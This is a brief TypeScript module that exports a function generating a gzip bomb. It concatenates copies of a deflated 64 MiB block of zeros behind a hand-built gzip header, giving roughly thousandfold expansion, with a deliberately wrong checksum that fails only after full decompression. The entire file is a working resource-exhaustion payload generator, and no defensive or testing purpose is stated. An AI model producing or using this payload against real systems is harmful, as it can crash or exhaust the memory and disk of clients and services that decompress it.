/**
 * A gzip bomb.
 *
 * @module
 */
import { constants, deflateRawSync } from "node:zlib";
import { concat } from "./wire.ts";

const PART_BYTES = 64 * 1024 * 1024;
const HEADER = Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255);

/** `bytes` zeros as gzip, a thousandth as long; a multiple of 64 MiB. Its CRC is wrong, which only shows at the end. */
export function gzipBomb(bytes: number): Uint8Array<ArrayBuffer> {
  // After a full flush deflate begins anew at a whole byte, so parts can stand in a row.
  const part = deflateRawSync(new Uint8Array(PART_BYTES), { finishFlush: constants.Z_FULL_FLUSH });
  const last = Uint8Array.of(3, 0);
  return concat([HEADER, ...Array<Uint8Array>(bytes / PART_BYTES).fill(part), last, new Uint8Array(8)]);
}
